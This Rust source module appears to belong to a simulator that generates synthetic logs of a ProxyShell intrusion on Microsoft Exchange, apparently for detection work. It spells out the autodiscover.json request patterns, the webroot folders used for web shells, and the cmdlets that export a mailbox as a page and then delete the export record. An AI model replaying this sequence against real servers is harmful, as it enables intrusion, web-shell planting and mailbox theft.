//! The way in: requests by which the front end was made to speak for a mailbox, pages exported into
//! web directories, and their use.

use model::{Exposed, ExposureKind};

use super::desk::{Desk, Shell};
use crate::formats::access;
use crate::formats::httpproxy;
use crate::formats::iis::Request;
use crate::formats::windows::{self, Cmdlet, Who};

/// Folders that the web site serves without a logon, and where they lie.
const SERVED: [(&str, &str); 5] = [
    ("/aspnet_client/", "C:\\inetpub\\wwwroot\\aspnet_client"),
    ("/owa/auth/", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth"),
    ("/aspnet_client/system_web/", "C:\\inetpub\\wwwroot\\aspnet_client\\system_web"),
    (
        "/owa/auth/Current/",
        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\Current",
    ),
    ("/ecp/auth/", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\ecp\\auth"),
];
const REPLICATION: &str =
    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe";

/// Requests to the back end through a confused autodiscover address, in the order in which the
/// published tools send them.
pub(super) fn proxyshell(desk: &mut Desk<'_>, count: usize) {
    let domain = &desk.cx.world.intruder.fake_domain;
    let mark = desk.dice.pick(&["%3f", "%3F", "%3f%3f"]);
    let tail = format!("Email=autodiscover/autodiscover.json{mark}@{domain}");
    let at = desk.dice.pick(&["@", "a@", "a=x@", "%40"]);
    for number in 0..count {
        let token: String = format!("{:016x}{:016x}", desk.dice.word(), desk.dice.word());
        let (method, query, fact) = match number {
            0 | 1 => {
                ("GET", format!("{at}{domain}/mapi/nspi/?&{tail}"), "looked whether the back end answers")
            }
            2 => (
                "POST",
                format!("{at}{domain}/autodiscover/autodiscover.xml?&{tail}"),
                "asked for a mailbox's identity",
            ),
            3 => (
                "POST",
                format!("{at}{domain}/mapi/emsmdb/?&{tail}"),
                "asked for a mailbox's security identifier",
            ),
            4 | 5 => {
                ("POST", format!("{at}{domain}/EWS/exchange.asmx?&{tail}"), "put a draft into a mailbox")
            }
            _ => (
                "POST",
                format!(
                    "{at}{domain}/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTB{token}&{tail}"
                ),
                "ran Exchange's management shell",
            ),
        };
        desk.hostile("proxyshell-request", &format!("{fact} through autodiscover.json"));
        if number > 0 {
            if number < 8 {
                desk.wait(1, 40)
            } else {
                desk.wait(1, 9)
            };
        }
        request(desk, method, &query);
    }
}

fn request(desk: &mut Desk<'_>, method: &str, query: &str) {
    let world = desk.cx.world;
    let intruder = &world.intruder;
    let status = if desk.dice.once_in(9) { 401 } else { 200 };
    let logged = format!("{query}&CorrelationID=<empty>;&cafeReqId={};", desk.dice.guid());
    let (taken, sent, received) =
        (desk.dice.within(30..900), desk.dice.within(300..6000), desk.dice.within(700..4000));
    let web = Request {
        server: &world.hosts.ex.ip,
        method,
        stem: "/autodiscover/autodiscover.json",
        query: &logged,
        user: "",
        client: &intruder.entry,
        agent: &intruder.agent,
        status: (status, 0, 0),
        taken,
        sent,
        received,
    };
    web.add(desk.plan.out("ex-iis"), desk.now);
    let (host, target) = (format!("mail.{}", world.domain), format!("{}:444", world.hosts.ex.fqdn));
    let query = format!("?{query}");
    let front = httpproxy::Request {
        protocol: "Autodiscover",
        host: &host,
        stem: "/autodiscover/autodiscover.json",
        action: "",
        auth: "",
        user: "",
        anchor: "",
        agent: &intruder.agent,
        client: &intruder.entry,
        server: &world.hosts.ex.name,
        status,
        backend: status,
        error: "",
        method,
        target: &target,
        query: &query,
    };
    front.add(desk.plan.out("ex-autodiscover"), &mut desk.dice, desk.now);
}

/// A draft with the page in it is exported as a file into a web directory; the request's record is
/// removed afterwards.
pub(super) fn page_exported(desk: &mut Desk<'_>, count: usize) {
    let world = desk.cx.world;
    let victim = &world.people[17 % world.people.len()];
    let number = desk.shells.len();
    desk.hostile("export-to-webroot", "gave a mailbox's owner the right to export mailboxes");
    let granted = format!("-Role \"Mailbox Import Export\" -User \"{}\"", victim.sam);
    cmdlet(desk, "New-ManagementRoleAssignment", &granted, "");
    desk.at_risk(Exposed::Account, &victim.sam, ExposureKind::Taken);
    for attempt in 0..count {
        desk.wait(6, 70);
        let page = &world.intruder.pages[(number + attempt) % world.intruder.pages.len()];
        let (stem, folder) = *desk.dice.one(&SERVED);
        let file = format!("{page}.aspx");
        let shell = Shell { stem: format!("{stem}{file}"), folder: folder.to_owned(), file };
        let server = desk.dice.pick(&["127.0.0.1", "127.0.0.1", "localhost", &world.hosts.ex.name]);
        let path =
            format!("{}\\{}", shell.folder, shell.file).replacen("C:", &format!("\\\\{server}\\c$"), 1);
        let parameters = format!(
            "-Name \"{}\" -Mailbox \"{}\" -IncludeFolders (\"#Drafts#\") -ContentFilter \"(Subject -eq '{}')\" \
             -ExcludeDumpster \"True\" -FilePath \"{path}\"",
            desk.dice.letters(8),
            victim.mail,
            desk.dice.letters(12),
        );
        desk.hostile("export-to-webroot", "exported a mailbox as a page into a web directory");
        let failed = attempt + 2 == count;
        let error = "Microsoft.Exchange.MailboxReplicationService.MailboxReplicationPermanentException: The name must be unique per mailbox.";
        cmdlet(desk, "New-MailboxExportRequest", &parameters, if failed { error } else { "" });
        desk.at_risk(Exposed::Mailbox, &victim.mail, ExposureKind::Taken);
        if failed {
            continue;
        }
        desk.wait(8, 50);
        page_written(desk, &shell);
        desk.hostile("export-to-webroot", "removed the record of an export");
        desk.wait(10, 60);
        let identity = format!("-Identity \"{}\\MailboxExport\" -Confirm \"False\"", victim.display());
        cmdlet(desk, "Remove-MailboxExportRequest", &identity, "");
        if desk.shells.iter().all(|known| known.stem != shell.stem) {
            desk.shells.push(shell);
        }
    }
}

fn page_written(desk: &mut Desk<'_>, shell: &Shell) {
    let world = desk.cx.world;
    desk.hostile("webshell-written", "a script page was written into a web directory");
    let path = format!("{}\\{}", shell.folder, shell.file);
    let (cx, ex) = (desk.cx, &world.hosts.ex);
    windows::file_created(&cx, desk.plan.out("ex-sysmon"), desk.now, ex, REPLICATION, &path);
    let who = Who::system(world, ex);
    access::object(&cx, desk.plan.out("ex-security"), desk.now + 4000, &who, &path, REPLICATION, true);
}

/// A cmdlet that ran for a mailbox's owner through the web service.
pub(super) fn cmdlet(desk: &mut Desk<'_>, name: &str, parameters: &str, error: &str) {
    let world = desk.cx.world;
    let victim = &world.people[17 % world.people.len()];
    let caller = format!("{}/Users/{}", world.realm, victim.display());
    let cmdlet = Cmdlet {
        name,
        parameters,
        caller: &caller,
        caller_sid: &victim.sid,
        host: "w3wp#MSExchangePowerShellAppPool",
        error,
    };
    let cx = desk.cx;
    cmdlet.add(&cx, desk.plan.out("ex-management"), desk.now);
}

/// A request to the web shell, which the operator waits for.
pub(super) fn post(desk: &mut Desk<'_>, method: &str) {
    let world = desk.cx.world;
    let Some(shell) = desk.shells.last().cloned() else { return };
    desk.hostile(
        "webshell-used",
        if method == "POST" { "posted to a web shell" } else { "looked whether a web shell stands" },
    );
    let failed = desk.dice.once_in(40);
    let (taken, sent, received) =
        (desk.dice.within(20..2500), desk.dice.within(250..30_000), desk.dice.within(600..6000));
    let request = Request {
        server: &world.hosts.ex.ip,
        method,
        stem: &shell.stem,
        query: "",
        user: "",
        client: &world.intruder.operator,
        agent: &world.intruder.agent,
        status: if method == "POST" && failed { (500, 0, 0) } else { (200, 0, 0) },
        taken,
        sent,
        received,
    };
    request.add(desk.plan.out("ex-iis"), desk.now);
}

/// The operator talks to the web shell: now and then in quick succession.
pub(super) fn shell_used(desk: &mut Desk<'_>, count: usize) {
    for number in 0..count {
        if number > 0 {
            if desk.dice.once_in(6) {
                desk.wait(60, 420)
            } else {
                desk.wait(2, 45)
            };
        }
        post(desk, if number == 0 { "GET" } else { "POST" });
    }
}
